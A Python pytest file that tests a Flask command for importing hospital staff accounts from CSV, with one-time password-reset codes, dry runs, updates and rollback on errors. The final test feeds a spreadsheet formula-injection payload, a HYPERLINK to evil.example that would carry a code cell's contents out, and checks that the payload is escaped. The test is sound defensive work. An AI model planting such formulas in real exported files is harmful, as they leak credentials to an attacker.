"""`users import`: a whole file or nothing, and codes that only their reader sees."""

import csv
import stat
from pathlib import Path
from typing import Any

import pytest
from flask.testing import FlaskCliRunner
from sqlalchemy import func, select
from sqlalchemy.orm import Session as Sql

from carelink_api.accounts.models import OneTimeCode, User
from carelink_api.audit.events import Event
from carelink_api.sessions import importing_users
from tests.auth.helpers import SQLITE, events
from tests.auth_helper import EMAIL, Auth
from tests.ops.commands import counted_events, done, done_json, refused

HEADER = "email,name,user_type,unit\n"
LINES = (
    "anna.berg@ward.example,Anna Berg,nurse,Ward 7\n"
    " Li@Ward.example ,Li  Wei,doctor,\n"
    "o'neil@ward.example,Ömer O’Neil,nurse,Ward 7\n"
)
NEW = "seven umbrellas on the quay"


@pytest.fixture
def file(tmp_path: Path, auth: Auth) -> Path:
    auth.create_user(unit="Ward 7")
    return written(tmp_path, LINES)


def written(folder: Path, lines: str) -> Path:
    path = folder / "people.csv"
    path.write_text(HEADER + lines)
    return path


def count(sql: Sql, kind: Any = User) -> int:
    sql.rollback()
    return sql.scalar(select(func.count()).select_from(kind)) or 0


def test_everybody_begins_with_a_code_and_without_a_password(
    runner: FlaskCliRunner, auth: Auth, file: Path, sql: Sql
) -> None:
    codes = file.with_name("codes.csv")
    counted = counted_events(Event.USER_CREATED)
    facts = done_json(runner, "users", "import", str(file), "--codes", str(codes))
    assert counted_events(Event.USER_CREATED) == counted + 3
    assert (facts["created"], facts["changed"], facts["unchanged"]) == (3, 0, 0)
    assert stat.S_IMODE(codes.stat().st_mode) == 0o600
    with codes.open() as lines:
        handed = {row["email"]: row for row in csv.DictReader(lines)}
    assert list(handed) == ["anna.berg@ward.example", "li@ward.example", "o'neil@ward.example"]
    body = {"email": "li@ward.example", "code": handed["li@ward.example"]["code"]}
    assert auth.post("password/reset", body | {"new_password": NEW}).status_code == 200
    user = auth.tokens("li@ward.example", NEW)["user"]
    assert (user["name"], user["user_type"], user["unit"]) == ("Li Wei", "doctor", None)
    made = events(sql, "user:created", "user:code_made")
    assert [each.event for each in made] == ["user:created"] * 3 + ["user:code_made"] * 3
    assert {each.actor for each in made} == {"cli"}


def test_the_same_command_again_writes_no_codes_and_speaks_of_none(
    runner: FlaskCliRunner, file: Path
) -> None:
    codes = file.with_name("codes.csv")
    again = ("users", "import", str(file), "--codes", str(codes))
    assert str(codes) in done(runner, *again)
    handed = codes.read_text()
    assert "codes" not in done(runner, *again)
    assert codes.read_text() == handed


def test_the_same_file_again_does_nothing(runner: FlaskCliRunner, file: Path, sql: Sql) -> None:
    words = done(runner, "users", "import", str(file))
    assert "3 new, 0 changed, 0 unchanged" in words
    assert "`flask users code EMAIL`" in words
    before = len(events(sql))
    assert "0 new, 0 changed, 3 unchanged" in done(runner, "users", "import", str(file))
    assert (count(sql), count(sql, OneTimeCode), len(events(sql))) == (4, 0, before)


def test_one_bad_line_and_nothing_is_imported(runner: FlaskCliRunner, file: Path, sql: Sql) -> None:
    bad = (
        "no address,,cook,Ward 9\n"
        "anna.berg@ward.example,Anna Berg,nurse,Ward 7\n"
        f"{EMAIL},Somebody,doctor,\n"
        "too,few\n"
    )
    result = runner.invoke(args=["users", "import", str(written(file.parent, LINES + bad))])
    assert result.exit_code == 1
    lines = result.stderr.splitlines()
    assert lines[0].startswith("line 5: unit: there is no unit of this name; email: is not")
    assert "name: must be 1 to 200" in lines[0]
    assert "user_type: is none of" in lines[0]
    assert lines[1] == "line 6: same as line 2"
    assert lines[2].startswith(
        "line 7: the account differs (name Nurse → Somebody, user_type nurse"
    )
    assert lines[2].endswith("--update changes it")
    assert lines[3] == "line 8: has more or fewer fields than the header"
    assert lines[4] == "Error: Nothing was imported: 4 of 7 lines are bad."
    assert count(sql) == 1


def test_a_dry_run_says_what_would_happen_and_does_nothing(
    runner: FlaskCliRunner, file: Path, sql: Sql
) -> None:
    codes = file.with_name("codes.csv")
    words = done(runner, "users", "import", str(file), "--dry-run", "--codes", str(codes))
    assert words == "Every line is good: 3 new, 0 changed, 0 unchanged. Nothing was done.\n"
    assert count(sql) == 1
    assert not codes.exists()


def test_an_update_changes_who_differs_and_a_new_type_ends_the_sessions(
    runner: FlaskCliRunner, auth: Auth, file: Path
) -> None:
    auth.create_user("other@ward.example", unit="Ward 7")
    nurse, other = auth.tokens()["access"], auth.tokens("other@ward.example")["access"]
    path = written(file.parent, f"{EMAIL},Nurse,doctor,\nother@ward.example,Other,nurse,\n")
    result = runner.invoke(args=["users", "import", str(path), "--update"])
    assert "Where nobody answers, add --yes" in result.stderr
    facts = done_json(runner, "users", "import", str(path), "--update", "--yes")
    assert (facts["changed"], facts["sessions_ended"]) == (2, 1)
    assert auth.me(nurse).status_code == 401
    assert auth.me(other).status_code == 200
    assert auth.login().get_json()["user"]["user_type"] == "doctor"


@SQLITE
def test_a_file_of_codes_that_exists_or_cannot_be_made_stops_it(
    runner: FlaskCliRunner, file: Path, sql: Sql
) -> None:
    codes = file.with_name("codes.csv")
    codes.write_text("of before")
    for path in (codes, file.parent / "nowhere" / "codes.csv"):
        words = refused(runner, "users", "import", str(file), "--codes", str(path))
        assert "Nothing was imported" in words
    assert codes.read_text() == "of before"
    assert count(sql) == 1


@SQLITE
def test_codes_that_cannot_be_written_make_no_accounts(
    runner: FlaskCliRunner, file: Path, sql: Sql, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(_: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("os.fsync", full)
    codes = file.with_name("codes.csv")
    words = refused(runner, "users", "import", str(file), "--codes", str(codes))
    assert "No space left on device. Nothing was imported." in words
    assert not codes.exists()
    assert count(sql) == 1


def test_who_interrupts_it_after_the_commit_keeps_the_codes(
    runner: FlaskCliRunner, auth: Auth, file: Path, sql: Sql, monkeypatch: pytest.MonkeyPatch
) -> None:
    def interrupted(_: object) -> bool:
        raise KeyboardInterrupt

    monkeypatch.setattr(importing_users, "publish", interrupted)
    codes = file.with_name("codes.csv")
    result = runner.invoke(args=["users", "import", str(file), "--codes", str(codes)])
    assert result.exit_code == 1
    assert f"their codes are in {codes}" in result.stderr
    assert count(sql) == 4
    with codes.open() as lines:
        code = next(csv.DictReader(lines))["code"]
    body = {"email": "anna.berg@ward.example", "code": code, "new_password": NEW}
    assert auth.post("password/reset", body).status_code == 200


def test_who_was_created_meanwhile_stops_it(
    runner: FlaskCliRunner, auth: Auth, file: Path, sql: Sql, monkeypatch: pytest.MonkeyPatch
) -> None:
    insert = importing_users._insert

    def be_late(sql_: Sql, *rest: Any) -> Any:
        sql_.rollback()
        auth.create_user("li@ward.example")
        return insert(sql_, *rest)

    monkeypatch.setattr(importing_users, "_insert", be_late)
    codes = file.with_name("codes.csv")
    assert "meanwhile" in refused(runner, "users", "import", str(file), "--codes", str(codes))
    assert not codes.exists()
    assert count(sql) == 2


def test_a_name_that_a_spreadsheet_would_compute_is_text_in_the_file_of_codes(
    runner: FlaskCliRunner, auth: Auth, tmp_path: Path
) -> None:
    auth.create_user(unit="Ward 7")
    lines = '=1+1@ward.example,"=HYPERLINK(""//evil.example?""&C2)",nurse,Ward 7\n'
    codes = tmp_path / "codes.csv"
    done(runner, "users", "import", str(written(tmp_path, lines)), "--codes", str(codes))
    with codes.open() as file:
        (row,) = csv.DictReader(file)
    assert row["name"] == '\'=HYPERLINK("//evil.example?"&C2)'
    assert row["email"] == "'=1+1@ward.example"
